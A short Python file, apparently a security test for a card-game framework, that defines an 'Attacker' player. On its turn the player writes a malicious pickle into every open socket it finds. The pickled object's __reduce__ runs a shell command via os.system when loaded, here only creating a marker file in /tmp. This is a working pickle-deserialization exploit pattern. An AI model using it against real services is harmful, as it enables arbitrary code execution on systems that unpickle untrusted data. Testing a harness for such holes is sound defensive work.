"""Sends a pickle over the channel."""

import os
import pickle
import stat

from matchbox.games.bomb import *


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pickled",))


class Attacker(Player):
    def name(self):
        return "Attacker"

    def turn(self, game_data, play_a_card):
        for number in range(3, 256):
            try:
                if stat.S_ISSOCK(os.fstat(number).st_mode):
                    os.write(number, pickle.dumps(Bomb()))
            except OSError:
                pass
        return None

    def defuse(self, game_data):
        return 0
